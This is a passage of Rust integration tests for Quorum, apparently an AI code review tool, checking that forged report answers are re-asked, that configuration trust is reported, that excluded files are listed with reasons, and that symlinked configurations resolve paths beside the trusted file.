    assert_ne!(record_of(&mut mine, "a.py")["mac"], copied["mac"]);
    *record_of(&mut mine, "a.py") = copied;
    write_records(&report, &mine);

    let out = quorum(repo.path(), &["review", "--resume", "--no-cache"]).await;
    ok(&out);
    assert_eq!(
        chat_requests(&server).await,
        2 * REVIEWED.len() + 1,
        "the copied answer is asked again: {}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("1 answer in quorum-report was not written by Quorum for you and is asked again"),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_run_says_which_configuration_it_uses_and_why_it_may() {
    let server = attacker().await;
    let repo = repo(&provider(&server, ""));
    let found = "Configuration: quorum.toml (Quorum found it by itself in the current folder; needs no trust";
    let run = quorum(repo.path(), &["review", "--no-cache"]).await;
    ok(&run);
    assert!(stderr(&run).contains(found), "{}", stderr(&run));
    let quiet = quorum(repo.path(), &["review", "--quiet", "--no-cache"]).await;
    ok(&quiet);
    assert!(!stderr(&quiet).contains("Configuration:"), "{}", stderr(&quiet));
    let plan = quorum(repo.path(), &["review", "--dry-run"]).await;
    assert!(stdout(&plan).contains(found), "{}", stdout(&plan));
    let list = quorum(repo.path(), &["providers", "list"]).await;
    assert!(stdout(&list).contains(found), "{}", stdout(&list));

    let chosen = quorum(repo.path(), &["providers", "list", "--config", "quorum.toml"]).await;
    assert!(
        stdout(&chosen).contains("Configuration: quorum.toml (trusted (you chose it with --config))"),
        "{}",
        stdout(&chosen)
    );
    std::fs::write(repo.path().join("quorum.toml"), provider(&server, "weight = 2.0")).unwrap();
    ok(&quorum(repo.path(), &["trust", "quorum.toml"]).await);
    let trusted = quorum(repo.path(), &["review", "--dry-run"]).await;
    assert!(
        stdout(&trusted).contains("Configuration: quorum.toml (Quorum found it by itself in the current folder; trusted (you trusted this content on "),
        "{}",
        stdout(&trusted)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_the_configuration_leaves_out_are_listed_with_the_reason() {
    let server = attacker().await;
    let repo = repo(&format!(
        "[review]\ninclude = [\"**/*.py\", \"src/**\"]\nexclude = [\"src/backdoor.rs\"]\n\n{}",
        provider(&server, "")
    ));
    std::fs::create_dir_all(repo.path().join("src")).unwrap();
    std::fs::write(repo.path().join("src/backdoor.rs"), "fn main() {}\n").unwrap();
    std::fs::write(repo.path().join("notes.txt"), "hello\n").unwrap();
    std::fs::write(repo.path().join(".gitignore"), "build/\n").unwrap();
    std::fs::create_dir_all(repo.path().join("build")).unwrap();
    std::fs::write(repo.path().join("build/out.py"), "print(1)\n").unwrap();
    let args = ["review", "--config", "quorum.toml", "--no-cache"];

    let plan = quorum(repo.path(), &[&args[..], &["--dry-run"]].concat()).await;
    ok(&plan);
    let text = stdout(&plan);
    let others = &text[text.find("Other files not sent").expect(&text)..];
    assert!(
        others.contains("src/backdoor.rs") && others.contains("excluded by review.exclude \"src/backdoor.rs\""),
        "{text}"
    );
    assert!(
        others.contains("notes.txt") && others.contains("not matched by review.include"),
        "{text}"
    );
    assert!(
        !text.contains("build/out.py"),
        ".gitignore'd files stay unlisted: {text}"
    );

    ok(&quorum(repo.path(), &[&args[..], &["--quiet"]].concat()).await);
    let report = fixture::report(&repo.path().join("quorum-report"));
    let skipped = report.to_string();
    assert!(
        skipped.contains("excluded by review.exclude \\\"src/backdoor.rs\\\""),
        "{skipped}"
    );
    assert!(skipped.contains("notes.txt"), "{skipped}");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_linked_quorum_toml_resolves_its_paths_beside_the_trusted_file() {
    // The user's own, trusted configuration, with recorded answers beside it.
    let mine = tempfile::tempdir().unwrap();
    let mine_dir = mine.path().canonicalize().unwrap();
    let config = mine_dir.join("quorum.toml");
    std::fs::write(
        &config,
        "[providers.rec]\nkind = \"replay\"\nreplay_file = \"answers.jsonl\"\nmodel = \"m\"\n",
    )
    .unwrap();
    std::fs::write(mine_dir.join("answers.jsonl"), "").unwrap();
    // The attacker's repository links it and ships answers of its own.
    let repo = tempfile::tempdir().unwrap();
    std::fs::write(repo.path().join("app.py"), "print(1)\n").unwrap();
    std::os::unix::fs::symlink(&config, repo.path().join("quorum.toml")).unwrap();
    std::fs::write(repo.path().join("answers.jsonl"), "{\"forged\": true}\n").unwrap();
    ok(&quorum(repo.path(), &["trust", config.to_str().unwrap()]).await);

    let list = quorum(repo.path(), &["providers", "list"]).await;
    ok(&list);
    let text = stdout(&list);
    assert!(text.contains("you trusted this content on"), "{text}");
    assert!(
        text.contains(&mine_dir.join("answers.jsonl").display().to_string()),
        "the recorded answers beside the trusted file: {text}"
    );
    let theirs = repo.path().canonicalize().unwrap().join("answers.jsonl");
    assert!(!text.contains(&theirs.display().to_string()), "{text}");
}
